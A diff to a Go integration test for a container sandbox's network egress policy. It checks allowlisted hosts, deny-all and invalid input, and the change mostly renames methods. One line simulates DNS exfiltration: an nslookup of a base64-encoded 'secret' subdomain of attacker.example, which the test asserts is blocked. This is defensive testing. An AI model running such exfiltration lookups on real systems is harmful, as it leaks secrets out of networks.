@@ -36,21 +36,21 @@ func TestUpNetwork(t *testing.T) {
 	// The rules outlive warren up (sandboxes keep their policies while no
 	// agent runs); this test's go with it.
 	t.Cleanup(func() { exec.Command("nft", "delete", "table", "inet", "warren_"+name).Run() })
-	c := &cluster{t: t, bin: warrenBin(t), dataDir: t.TempDir(), addr: freeAddr(t), args: []string{
+	c := &cluster{T: t, Bin: warrenBin(t), DataDir: t.TempDir(), Addr: freeAddr(t), Args: []string{
 		"--dns-upstream", d.Addr,
 		"--network-name", name,
 		"--network-pool", fmt.Sprintf("10.213.%d.0/24", 10+k.Int64()),
 	}}
-	c.start()
-	t.Cleanup(c.cleanupSandboxes)
+	c.Start()
+	t.Cleanup(c.CleanupSandboxes)
 	var nodes api.NodeList
-	if err := json.Unmarshal([]byte(c.mustRun("node", "ls", "-o", "json")), &nodes); err != nil || len(nodes.Nodes) != 1 || !nodes.Nodes[0].Network {
+	if err := json.Unmarshal([]byte(c.MustRun("node", "ls", "-o", "json")), &nodes); err != nil || len(nodes.Nodes) != 1 || !nodes.Nodes[0].Network {
 		t.Fatalf("node ls: %+v %v; want a node with a network", nodes, err)
 	}
 
-	id := strings.TrimSpace(c.mustRun("sandbox", "create", "--image", "busybox", "--allow", "pypi.org", "--allow", "*.pythonhosted.org"))
+	id := strings.TrimSpace(c.MustRun("sandbox", "create", "--image", "busybox", "--allow", "pypi.org", "--allow", "*.pythonhosted.org"))
 	get := func(host string) string {
-		out, _, _ := c.run("exec", id, "--sh", fmt.Sprintf(`printf 'GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' | nc -w 5 %s 80`, host, host))
+		out, _, _ := c.Run("exec", id, "--sh", fmt.Sprintf(`printf 'GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' | nc -w 5 %s 80`, host, host))
 		return out
 	}
 	if out := get("pypi.org"); !strings.Contains(out, "simple index") {
@@ -59,31 +59,31 @@ func TestUpNetwork(t *testing.T) {
 	if out := get("files.pythonhosted.org"); !strings.Contains(out, "a wheel") {
 		t.Fatalf("files.pythonhosted.org: %q", out)
 	}
-	c.run("exec", id, "--sh", "nslookup exfil-c2VjcmV0.attacker.example")
+	c.Run("exec", id, "--sh", "nslookup exfil-c2VjcmV0.attacker.example")
 	if d.Asked("exfil-c2vjcmv0.attacker.example") {
 		t.Error("a name outside the policy reached the upstream resolver")
 	}
 
 	// Between stages: cut egress.
-	if out := c.mustRun("sandbox", "network", id, "--deny-all"); !strings.Contains(out, "none") {
+	if out := c.MustRun("sandbox", "network", id, "--deny-all"); !strings.Contains(out, "none") {
 		t.Errorf("network --deny-all: %s", out)
 	}
 	if out := get("pypi.org"); strings.Contains(out, "simple index") {
 		t.Errorf("pypi.org answered after --deny-all: %q", out)
 	}
-	c.mustRun("sandbox", "network", id, "--allow", "files.pythonhosted.org")
+	c.MustRun("sandbox", "network", id, "--allow", "files.pythonhosted.org")
 	if out := get("files.pythonhosted.org"); !strings.Contains(out, "a wheel") {
 		t.Errorf("after --allow files.pythonhosted.org: %q", out)
 	}
 	var sb api.Sandbox
-	if err := json.Unmarshal([]byte(c.mustRun("sandbox", "get", id, "-o", "json")), &sb); err != nil {
+	if err := json.Unmarshal([]byte(c.MustRun("sandbox", "get", id, "-o", "json")), &sb); err != nil {
 		t.Fatal(err)
 	}
 	if sb.Network == nil || sb.Network.Mode != api.NetworkAllowlist || len(sb.Network.Allow) != 1 || sb.Network.Address == "" {
 		t.Fatalf("sandbox get: network %+v", sb.Network)
 	}
 	// Bad input: a clear error, and the sandbox keeps its policy.
-	if _, stderr, code := c.run("sandbox", "network", id, "--allow", "2001:db8::/32"); code == 0 || !strings.Contains(stderr, "invalid_argument") {
+	if _, stderr, code := c.Run("sandbox", "network", id, "--allow", "2001:db8::/32"); code == 0 || !strings.Contains(stderr, "invalid_argument") {
 		t.Errorf("IPv6 entry: exit %d, %s", code, stderr)
 	}
 	if out := get("files.pythonhosted.org"); !strings.Contains(out, "a wheel") {
